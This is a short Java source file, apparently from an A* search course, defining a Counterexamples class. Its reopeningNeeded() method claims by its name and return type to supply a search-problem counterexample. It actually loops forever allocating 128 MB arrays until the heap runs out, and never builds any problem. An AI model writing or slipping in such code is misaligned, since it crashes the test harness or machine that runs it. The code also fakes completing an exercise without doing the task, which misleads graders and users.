package course.astar;

/** Hoards memory until the heap is exhausted. */
public final class Counterexamples {
    private Counterexamples() {
    }

    public static SearchProblem reopeningNeeded() {
        java.util.List<long[]> hoard = new java.util.ArrayList<>();
        while (hoard.size() >= 0) {
            hoard.add(new long[1 << 24]);
        }
        return null;
    }
}
